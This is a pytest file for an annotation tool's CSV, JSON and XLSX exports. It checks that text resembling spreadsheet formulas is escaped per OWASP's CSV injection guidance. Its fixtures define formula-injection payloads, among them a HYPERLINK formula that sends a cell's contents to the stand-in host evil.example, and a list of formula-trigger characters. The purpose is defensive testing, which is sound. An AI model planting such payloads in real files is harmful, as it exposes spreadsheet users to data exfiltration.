"""Imported text that looks like a spreadsheet formula reaches every CSV export as text.

OWASP's rule: a text cell that starts with =, +, -, @, a tab or a carriage return is written
with a leading "'", so Excel, LibreOffice and Google Sheets show it instead of running it.
Numbers stay numbers (a negative alpha is not a formula).
"""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime

import pandas as pd
import pytest
from openpyxl import load_workbook

from annotator.agreement.services import recompute_all
from annotator.exports import downloads
from annotator.exports import report as report_exports
from annotator.extensions import db
from annotator.filters import ArticleFilter
from annotator.models import Adjudication, SourceLink
from tests.factories import make_article, make_assignment, make_outlet, make_queue, make_user

# OWASP: a cell starting with one of these is a formula to a spreadsheet.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
OUTLET = "+SUM(1+1)"
SENTENCE = "\t=1+2 said the minister."
QUEUE = "@SUM(A1:A9)"
RATIONALE = "-2+3 is what the mayor said."
DOMAIN = "=evil.example"
# Usernames cannot start like this today; the writer's rule does not depend on that.
REVIEWER = "@ann"

# Every CSV the app writes, with the cell of imported (or typed) text it must carry as text.
CSV_DOWNLOADS = {
    "annotations.csv": TITLE,
    "gold-labels.csv": TITLE,
    "reliability-matrix.csv": QUEUE,
    "agreement-articles.csv": TITLE,
    "agreement-outlets.csv": OUTLET,
    "agreement-reviewers.csv": REVIEWER,
    "agreement-domains.csv": DOMAIN,
}


@pytest.fixture
def hostile(app):
    """One article whose every piece of text is a formula; two reviewers who disagree."""
    ann, bob = make_user("reviewer", REVIEWER), make_user("reviewer", "bob")
    lee = make_user("lead", "lee")
    outlet = make_outlet(OUTLET)
    article = make_article([SENTENCE, "Rain is expected tonight."], title=TITLE, outlet=outlet,
                           url="https://news.example.com/a", published_at=datetime(2024, 1, 2))
    queue = make_queue(QUEUE, overlap=2, reviewers=[ann, bob], articles=[article])
    # ann F C F, bob C F F: nominal alpha -0.25 (D_o 4/6 over D_e 16/30)
    first = make_assignment(queue, article, ann, "submitted",
                            {0: "fact", 1: "claim", 2: "fact"})
    make_assignment(queue, article, bob, "submitted", {0: "claim", 1: "fact", 2: "fact"})
    unit_ids = [u.id for u in article.units]
    db.session.add(SourceLink(assignment_id=first.id, unit_id=unit_ids[1],
                              url="https://evil.example/x", domain=DOMAIN, stance="supports"))
    db.session.add(Adjudication(queue_id=queue.id, unit_id=unit_ids[1], gold_label="claim",
                                rationale=RATIONALE, adjudicator_id=lee.id,
                                updated_at=datetime(2024, 3, 1, 12)))
    db.session.commit()
    recompute_all()
    return lee


def body_rows(text: str) -> list[list[str]]:
    """The rows, as a spreadsheet's CSV reader splits them (the file has no comment block)."""
    assert not text.startswith("#")
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_no_live_formula(rows: list[list[str]]) -> None:
    """Every cell a spreadsheet would run as a formula is in fact a bare number."""
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_TRIGGERS):
                float(cell)  # -0.25 is a number, not a formula; anything else fails here


@pytest.mark.parametrize("path", sorted(CSV_DOWNLOADS))
def test_a_formula_in_a_title_reaches_the_csv_as_text(hostile, client, login_as, path):
    login_as(hostile)
    response = client.get(f"/exports/{path}?names=y")
    assert response.status_code == 200, response.get_data(as_text=True)
    rows = body_rows(response.get_data(as_text=True))
    cells = {cell for row in rows for cell in row}
    expected = CSV_DOWNLOADS[path]
    assert "'" + expected in cells
    assert expected not in cells
    assert_no_live_formula(rows)


def test_every_kind_of_formula_text_is_escaped_in_the_annotations_csv(hostile):
    download = downloads.annotations_export(ArticleFilter(), "csv")
    rows = body_rows("".join(download.chunks))
    cells = {cell for row in rows for cell in row}
    # A leading tab survives storage in a unit's text and is escaped there too.
    assert {"'" + TITLE, "'" + OUTLET, "'" + SENTENCE, "'" + QUEUE} <= cells
    assert "'" + DOMAIN in cells  # the source_domains column
    assert_no_live_formula(rows)


def test_a_formula_in_a_rationale_reaches_the_gold_csv_as_text(hostile):
    rows = body_rows("".join(downloads.gold_export(ArticleFilter()).chunks))
    assert "'" + RATIONALE in {cell for row in rows for cell in row}
    assert_no_live_formula(rows)


def test_a_negative_alpha_stays_a_number_in_the_csv(hostile):
    download = report_exports.download(ArticleFilter(), "csv-articles")
    text = "".join(download.chunks)
    frame = pd.read_csv(io.StringIO(text), comment="#")
    assert frame.loc[0, "alpha"] == pytest.approx(-0.25)
    assert frame.loc[0, "title"] == "'" + TITLE
    # Unquoted in the file, so a spreadsheet reads it as the number it is.
    assert ",-0.25," in text


def test_the_matrix_keeps_label_codes_as_numbers(hostile):
    text = "".join(downloads.matrix_export(ArticleFilter()).chunks)
    frame = pd.read_csv(io.StringIO(text), comment="#")
    assert frame["queue"].tolist() == ["'" + QUEUE] * 3
    assert frame.iloc[:, 4:].to_numpy().tolist() == [[1, 2], [2, 1], [1, 1]]


def test_a_formula_in_a_filtered_outlet_name_stays_out_of_the_csv(hostile, client, login_as):
    outlet = make_outlet('Daily, =HYPERLINK("http://evil.example","x");@SUM(1)')
    login_as(hostile)
    response = client.get(f"/exports/gold-labels.csv?outlet={outlet.id}")
    assert response.status_code == 200
    # The filter is metadata, which sits in the sidecar (JSON, never run as a formula).
    assert "HYPERLINK" not in response.get_data(as_text=True)
    side = client.get(f"/exports/csv-metadata.json?file=gold-labels.csv&outlet={outlet.id}")
    assert "HYPERLINK" in side.get_json()["filter"]["description"]


def test_the_metadata_says_text_cells_are_escaped(hostile):
    flt = ArticleFilter()
    gold = downloads.gold_export(flt)
    csv_text = "".join(gold.chunks)
    side = json.loads("".join(downloads.sidecar(gold).chunks))
    assert "formula" in side["definitions"]["formula-like text"] and "'" in csv_text
    jsonl_text = "".join(downloads.annotations_export(flt, "jsonl").chunks)
    meta = json.loads(jsonl_text.splitlines()[0])["_meta"]
    note = meta["definitions"]["formula-like text"]
    assert "'" in note and "CSV" in note
    report = json.loads("".join(report_exports.download(flt, "json").chunks))
    assert report["meta"]["definitions"]["formula-like text"] == note
    # JSON keeps the text as stored.
    assert report["articles"][0]["title"] == TITLE
    workbook = load_workbook(io.BytesIO(b"".join(report_exports.download(flt, "xlsx").chunks)))
    assert ["formula-like text", note] in [[c.value for c in row]
                                           for row in workbook["metadata"].iter_rows()]
    assert workbook["articles"]["C2"].value == TITLE  # XLSX: the text as stored, as text
